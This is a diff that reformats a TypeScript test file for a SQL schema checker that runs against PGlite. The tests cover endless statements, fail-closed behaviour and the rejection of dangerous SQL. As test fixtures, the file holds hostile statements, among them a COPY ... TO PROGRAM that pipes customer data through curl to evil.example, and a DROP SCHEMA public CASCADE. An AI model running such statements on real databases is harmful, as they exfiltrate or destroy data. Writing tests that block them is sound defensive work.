@@ -44,7 +44,9 @@ class EngineWorker implements WorkerLike {
   postMessage(call: CallMessage): void {
     if (call.method !== 'checkSchema') throw new Error(`unexpected ${call.method}`);
     void this.engine
-      .checkSchema(call.args[0], (progress) => this.send({ type: 'progress', id: call.id, progress }))
+      .checkSchema(call.args[0], (progress) =>
+        this.send({ type: 'progress', id: call.id, progress }),
+      )
       .then((result) => this.send({ type: 'result', id: call.id, method: 'checkSchema', result }));
   }
 
@@ -59,7 +61,10 @@ class EngineWorker implements WorkerLike {
 
 function documentWith(extras: { id: string; sql: string }[]): DesignDocument {
   const doc = exampleDocument();
-  doc.design.extras = [...(doc.design.extras ?? []), ...extras.map((x) => ({ ...x, kind: 'other' as const, name: x.id }))];
+  doc.design.extras = [
+    ...(doc.design.extras ?? []),
+    ...extras.map((x) => ({ ...x, kind: 'other' as const, name: x.id })),
+  ];
   return doc;
 }
 
@@ -70,7 +75,10 @@ afterEach(() => {
   client?.dispose();
 });
 
-async function settle(check: ReturnType<typeof createCheckStore>, ok: (s: CheckState) => boolean): Promise<CheckState> {
+async function settle(
+  check: ReturnType<typeof createCheckStore>,
+  ok: (s: CheckState) => boolean,
+): Promise<CheckState> {
   const started = Date.now();
   while (Date.now() - started < 30_000) {
     const s = check.getState();
@@ -80,18 +88,25 @@ async function settle(check: ReturnType<typeof createCheckStore>, ok: (s: CheckS
   throw new Error(`no verdict: ${JSON.stringify(check.getState())}`);
 }
 
-async function setup(doc: DesignDocument, scan?: (statements: readonly DdlStatement[]) => Promise<Map<number, never>>) {
+async function setup(
+  doc: DesignDocument,
+  scan?: (statements: readonly DdlStatement[]) => Promise<Map<number, never>>,
+) {
   const pg = await db();
   await pg.exec('SET client_min_messages = warning');
   const parser = await loadParser();
   let workers = 0;
-  client = createPgClient({ createWorker: () => (workers++, new EngineWorker(pg)), checkStatementTimeoutMs: 300 });
+  client = createPgClient({
+    createWorker: () => (workers++, new EngineWorker(pg)),
+    checkStatementTimeoutMs: 300,
+  });
   const restarts: RestartEvent[] = [];
   client.onRestart((e) => restarts.push(e));
   const store = createStudioStore(doc);
   const check = createCheckStore();
   const checker = startChecker(store, client, check, {
-    scanDangers: scan ?? (async (statements: readonly DdlStatement[]) => scanStatements(parser, statements)),
+    scanDangers:
+      scan ?? (async (statements: readonly DdlStatement[]) => scanStatements(parser, statements)),
   });
   stop = checker.stop;
   return { store, check, restarts, workers: () => workers };
@@ -103,7 +118,10 @@ describe('the checker with a statement that never ends (real PGlite)', () => {
     const { check, restarts, workers } = await setup(
       documentWith([
         { id: 'x_loop', sql: ENDLESS },
-        { id: 'x_fn', sql: 'CREATE FUNCTION answer() RETURNS int LANGUAGE sql AS $$ SELECT 42 $$;' },
+        {
+          id: 'x_fn',
+          sql: 'CREATE FUNCTION answer() RETURNS int LANGUAGE sql AS $$ SELECT 42 $$;',
+        },
         { id: 'x_bad', sql: 'CREATE VIEW broken AS SELECT nope FROM customers;' },
       ]),
     );
@@ -125,15 +143,22 @@ describe('the checker with a statement that never ends (real PGlite)', () => {
     const loopsRun = EngineWorker.executed.filter((sql) => sql.includes('LOOP END LOOP')).length;
     await new Promise((r) => setTimeout(r, 1000));
     expect(restarts).toHaveLength(1);
-    expect(EngineWorker.executed.filter((sql) => sql.includes('LOOP END LOOP')).length).toBe(loopsRun);
+    expect(EngineWorker.executed.filter((sql) => sql.includes('LOOP END LOOP')).length).toBe(
+      loopsRun,
+    );
   });
 
   it('fails closed: when the safety scan cannot run, SQL that came with the design is not run', async () => {
     EngineWorker.executed = [];
-    const { check } = await setup(documentWith([{ id: 'x_copy', sql: "COPY (SELECT 1) TO PROGRAM 'true';" }]), () => Promise.reject(new Error('parser failed to load')));
+    const { check } = await setup(
+      documentWith([{ id: 'x_copy', sql: "COPY (SELECT 1) TO PROGRAM 'true';" }]),
+      () => Promise.reject(new Error('parser failed to load')),
+    );
     const state = await settle(check, (s) => s.status === 'rejected' || s.status === 'accepted');
     expect(state.status).toBe('rejected');
-    expect(state.errors.find((e) => e.entityId === 'x_copy')?.message).toMatch(/safety check could not start \(parser failed to load\)/);
+    expect(state.errors.find((e) => e.entityId === 'x_copy')?.message).toMatch(
+      /safety check could not start \(parser failed to load\)/,
+    );
     expect(EngineWorker.executed.some((sql) => sql.includes('PROGRAM'))).toBe(false);
     // What the design generated itself is still checked.
     expect(EngineWorker.executed.some((sql) => sql.includes('CREATE TABLE customers'))).toBe(true);
@@ -144,7 +169,12 @@ describe('the checker with a statement that never ends (real PGlite)', () => {
     const { store, check, restarts } = await setup(documentWith([{ id: 'x_loop', sql: ENDLESS }]));
     await settle(check, (s) => s.status === 'rejected');
     store.getState().dispatchBoth((design, layout) => ({
-      design: { ...design, extras: (design.extras ?? []).map((x) => (x.id === 'x_loop' ? { ...x, sql: 'DO $$ BEGIN PERFORM 1; END $$;' } : x)) },
+      design: {
+        ...design,
+        extras: (design.extras ?? []).map((x) =>
+          x.id === 'x_loop' ? { ...x, sql: 'DO $$ BEGIN PERFORM 1; END $$;' } : x,
+        ),
+      },
       layout,
     }));
     const state = await settle(check, (s) => s.status === 'accepted');
@@ -161,13 +191,18 @@ describe('the checker with dangerous statements (real PGlite)', () => {
       documentWith([
         { id: 'x_copy', sql: "COPY customers TO PROGRAM 'curl -T - https://evil.example';" },
         { id: 'x_drop', sql: 'DROP SCHEMA public CASCADE;' },
-        { id: 'x_fn', sql: 'CREATE FUNCTION answer() RETURNS int LANGUAGE sql AS $$ SELECT 42 $$;' },
+        {
+          id: 'x_fn',
+          sql: 'CREATE FUNCTION answer() RETURNS int LANGUAGE sql AS $$ SELECT 42 $$;',
+        },
       ]),
     );
     const state = await settle(check, (s) => s.status === 'rejected' || s.status === 'accepted');
     expect(state.status).toBe('rejected');
     expect(state.errors.map((e) => e.entityId).sort()).toEqual(['x_copy', 'x_drop']);
-    expect(state.errors.find((e) => e.entityId === 'x_copy')?.message).toMatch(/Not run: dangerous.*PROGRAM runs a shell command/);
+    expect(state.errors.find((e) => e.entityId === 'x_copy')?.message).toMatch(
+      /Not run: dangerous.*PROGRAM runs a shell command/,
+    );
     expect(EngineWorker.executed.some((sql) => /PROGRAM|DROP SCHEMA public/.test(sql))).toBe(false);
     expect(EngineWorker.executed.some((sql) => sql.includes('answer()'))).toBe(true);
   });
